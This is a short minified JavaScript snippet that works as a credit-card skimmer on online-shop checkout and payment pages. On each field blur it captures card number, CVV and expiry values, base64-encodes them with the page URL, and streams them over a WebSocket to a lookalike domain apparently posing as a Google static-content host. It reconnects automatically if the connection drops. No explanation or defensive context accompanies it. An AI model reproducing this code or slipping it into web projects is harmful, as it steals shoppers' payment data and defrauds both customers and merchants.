!function(){
var a=location.href;
if(!/checkout|onepage|payment/.test(a))return;
var b,c=[],d=function(){
b=new WebSocket("wss://ajax-gstatic-libs.com/ws"),b.onopen=function(){
for(;c.length;)b.send(c.shift())},b.onclose=function(){
setTimeout(d,5e3)}};
d();
var e=function(f){
c.push(btoa(JSON.stringify(f)));
b&&1===b.readyState&&b.onopen()};
document.addEventListener("blur",function(g){
var h=g.target;
h&&h.name&&/cc|card|cvv|cvc|exp/i.test(h.name)&&e({
n:h.name,v:h.value,u:a})},!0)}();
